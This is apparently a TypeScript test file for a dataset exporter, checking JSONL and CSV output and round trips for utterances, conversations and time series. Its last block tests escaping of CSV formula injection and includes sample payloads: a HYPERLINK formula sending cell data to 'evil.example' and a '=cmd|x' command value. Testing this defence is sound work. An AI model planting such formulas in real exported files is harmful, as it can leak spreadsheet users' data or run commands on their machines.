import type { DatasetKind } from '@genesis/schema/common';
import type { Conversation } from '@genesis/schema/conversation';
import type { TimeSeries } from '@genesis/schema/timeseries';
import type { Utterance } from '@genesis/schema/utterance';
import { describe, expect, it } from 'vitest';
import type { ItemData } from '../src/registry/columns.ts';
import { type ExportFormat, exportContentType, exportRecords } from '../src/registry/export.ts';
import { parseDatasetFile } from '../src/registry/import.ts';

const utterances: Utterance[] = [
  { text: 'Where is my card?', intent: 'card_arrival', language: 'en' },
  {
    text: 'Perdí mi tarjeta, "urgente", ¿qué hago?',
    intent: 'lost_or_stolen_card',
    language: 'es',
  },
  { text: 'line one\nline two, with a comma', intent: 'card_arrival', language: 'en' },
];

const conversations: Conversation[] = [
  {
    conversation_id: 'c-1',
    intent: 'card_arrival',
    category: 'card_management',
    sentiment: 'negative',
    complexity: 'medium',
    language: 'en',
    turn_count: 3,
    resolution_status: 'resolved',
    emotion_arc: 'frustrated_to_satisfied',
    turns: [
      {
        speaker: 'customer',
        text: 'My card, "the new one", has not arrived.\nIt has been 2 weeks.',
      },
      { speaker: 'agent', text: 'Sorry; it was posted on Monday.' },
      { speaker: 'customer', text: 'Thanks.' },
    ],
    generation: {
      model: 'local-1',
      provider: 'local',
      created_at: '2026-11-25T10:00:00Z',
      slot: 's-1',
    },
  },
  {
    conversation_id: 'c-2',
    intent: 'lost_or_stolen_card',
    category: 'security',
    sentiment: 'neutral',
    complexity: 'simple',
    language: 'es',
    turn_count: 2,
    resolution_status: 'escalated',
    turns: [
      { speaker: 'customer', text: 'Me robaron la tarjeta.' },
      { speaker: 'agent', text: 'La bloqueamos ahora mismo.' },
    ],
  },
];

const hourly = (n: number, from: string) =>
  Array.from({ length: n }, (_, i) =>
    new Date(Date.parse(from) + i * 3_600_000).toISOString().replace('.000Z', 'Z'),
  );

const series: TimeSeries[] = [
  {
    series_id: 'load-1',
    domain: 'electricity',
    series_type: 'residential_consumption',
    frequency: '1H',
    start: '2024-03-01T00:00:00Z',
    length: 4,
    target: [0.25, 1.5, 2, 0],
    timestamps: hourly(4, '2024-03-01T00:00:00Z'),
    unit: 'kWh',
    seasonality_types: ['daily'],
    trend_type: 'linear',
    noise_level: 0.1,
    anomalies: [{ index: 2, type: 'spike', magnitude: 3 }],
    description_language: 'en',
    description: 'A household in spring.',
  },
  {
    series_id: 'temp-1',
    domain: 'sensors',
    series_type: 'temperature',
    frequency: '1D',
    start: '2024-01-01T00:00:00Z',
    length: 3,
    target: [-3.5, 0, 12.25],
    unit: '°C',
    seasonality_types: [],
    trend_type: 'none',
    noise_level: 0,
    anomalies: [],
  },
];

const DATA: Record<DatasetKind, ItemData[]> = { utterances, conversations, timeseries: series };

async function exportText(
  kind: DatasetKind,
  items: Iterable<ItemData> | AsyncIterable<ItemData>,
  format: ExportFormat,
) {
  const chunks: string[] = [];
  for await (const chunk of exportRecords(kind, items, format)) chunks.push(chunk);
  return chunks;
}

function reimport(kind: DatasetKind, text: string, format: ExportFormat) {
  const result = parseDatasetFile(text, { kind, filename: `x.${format}` });
  if (!result.ok) throw new Error(JSON.stringify(result.errors, null, 2));
  return result.items.map((i) => i.data);
}

describe('exportContentType', () => {
  it('gives the media type of each format', () => {
    expect(exportContentType('csv')).toBe('text/csv; charset=utf-8');
    expect(exportContentType('jsonl')).toBe('application/x-ndjson; charset=utf-8');
  });
});

describe('exportRecords', () => {
  it('writes one JSON object per line', async () => {
    const text = (await exportText('utterances', utterances, 'jsonl')).join('');
    expect(text.split('\n')).toEqual([...utterances.map((u) => JSON.stringify(u)), '']);
  });

  it('writes the utterance CSV header and quotes what needs quoting', async () => {
    const text = (await exportText('utterances', utterances.slice(0, 2), 'csv')).join('');
    expect(text).toBe(
      'text,intent,language\nWhere is my card?,card_arrival,en\n' +
        '"Perdí mi tarjeta, ""urgente"", ¿qué hago?",lost_or_stolen_card,es\n',
    );
  });

  it('streams from an async source in chunks, with the header once', async () => {
    async function* many() {
      for (let i = 0; i < 1200; i++)
        yield { text: `text ${i}`, intent: 'card_arrival', language: 'en' } as const;
    }
    const chunks = await exportText('utterances', many(), 'csv');
    expect(chunks.length).toBeGreaterThan(2);
    const lines = chunks.join('').trimEnd().split('\n');
    expect(lines).toHaveLength(1201);
    expect(lines.filter((l) => l === 'text,intent,language')).toHaveLength(1);
  });

  it('writes the long format for time series, computing missing timestamps', async () => {
    const text = (await exportText('timeseries', [series[1]!], 'csv')).join('');
    expect(text).toBe(
      'series_id,timestamp,value,domain,series_type,unit,frequency\n' +
        'temp-1,2024-01-01T00:00:00Z,-3.5,sensors,temperature,°C,1D\n' +
        'temp-1,2024-01-02T00:00:00Z,0,sensors,temperature,°C,1D\n' +
        'temp-1,2024-01-03T00:00:00Z,12.25,sensors,temperature,°C,1D\n',
    );
  });

  it('leaves empty cells for an absent emotion_arc and generation', async () => {
    const text = (await exportText('conversations', [conversations[1]!], 'csv')).join('');
    const [header, row] = text.split('\n');
    expect(header).toBe(
      'conversation_id,intent,category,sentiment,complexity,language,turn_count,resolution_status,emotion_arc,turns,generation',
    );
    expect(row).toMatch(
      /^c-2,lost_or_stolen_card,security,neutral,simple,es,2,escalated,,"\[.*\]",$/,
    );
  });
});

describe('round trips through parseDatasetFile', () => {
  for (const kind of ['utterances', 'conversations', 'timeseries'] as const) {
    it(`gives back equal ${kind} from JSON lines`, async () => {
      const text = (await exportText(kind, DATA[kind], 'jsonl')).join('');
      expect(reimport(kind, text, 'jsonl')).toEqual(DATA[kind]);
    });
  }

  for (const kind of ['utterances', 'conversations'] as const) {
    it(`gives back equal ${kind} from CSV`, async () => {
      const text = (await exportText(kind, DATA[kind], 'csv')).join('');
      expect(reimport(kind, text, 'csv')).toEqual(DATA[kind]);
    });
  }

  it('gives back the identity, values and times of time series from CSV', async () => {
    const text = (await exportText('timeseries', series, 'csv')).join('');
    const back = reimport('timeseries', text, 'csv') as TimeSeries[];
    const essentials = (s: TimeSeries) => ({
      series_id: s.series_id,
      domain: s.domain,
      series_type: s.series_type,
      unit: s.unit,
      frequency: s.frequency,
      start: s.start,
      target: s.target,
    });
    expect(back.map(essentials)).toEqual(series.map(essentials));
    expect(back[0]?.timestamps).toEqual(series[0]?.timestamps);
    expect(back[1]?.timestamps).toEqual([
      '2024-01-01T00:00:00Z',
      '2024-01-02T00:00:00Z',
      '2024-01-03T00:00:00Z',
    ]);
  });
});

describe('CSV cells a spreadsheet would run as formulas (OWASP, CSV injection)', () => {
  const risky: Utterance[] = [
    {
      text: '=HYPERLINK("http://evil.example/?q="&A1,"card")',
      intent: 'card_arrival',
      language: 'en',
    },
    { text: '+1+1 is my balance', intent: 'card_arrival', language: 'en' },
    { text: '-2+3 where is my card', intent: 'card_arrival', language: 'en' },
    { text: '@SUM(A1:A9)', intent: 'card_arrival', language: 'en' },
    { text: '\tcard, tab first', intent: 'card_arrival', language: 'en' },
    { text: '-42', intent: 'card_arrival', language: 'en' },
    { text: 'a = b is fine inside', intent: 'card_arrival', language: 'en' },
  ];

  it("writes them with a leading ', quoted where needed; plain numbers and inner signs stay", async () => {
    const text = (await exportText('utterances', risky, 'csv')).join('');
    expect(text.split('\n')).toEqual([
      'text,intent,language',
      `"'=HYPERLINK(""http://evil.example/?q=""&A1,""card"")",card_arrival,en`,
      "'+1+1 is my balance,card_arrival,en",
      "'-2+3 where is my card,card_arrival,en",
      "'@SUM(A1:A9),card_arrival,en",
      `"'\tcard, tab first",card_arrival,en`,
      '-42,card_arrival,en',
      'a = b is fine inside,card_arrival,en',
      '',
    ]);
    // No cell of the file begins with a formula character any more.
    for (const line of text.trim().split('\n').slice(1)) expect(line).not.toMatch(/^"?[=+@\t\r]/);
  });

  it('imports back with the quote kept in the escaped texts (README), the others unchanged', async () => {
    const text = (await exportText('utterances', risky, 'csv')).join('');
    const back = reimport('utterances', text, 'csv') as Utterance[];
    expect(back.map((u) => u.text)).toEqual([
      `'${risky[0]!.text}`,
      `'${risky[1]!.text}`,
      `'${risky[2]!.text}`,
      `'${risky[3]!.text}`,
      "'\tcard, tab first",
      '-42',
      'a = b is fine inside',
    ]);
  });

  it('keeps negative values of time series as numbers, and escapes a series id', async () => {
    const text = (
      await exportText('timeseries', [{ ...series[1]!, series_id: '=cmd|x' }], 'csv')
    ).join('');
    expect(text.split('\n')[1]).toBe("'=cmd|x,2024-01-01T00:00:00Z,-3.5,sensors,temperature,°C,1D");
  });
});
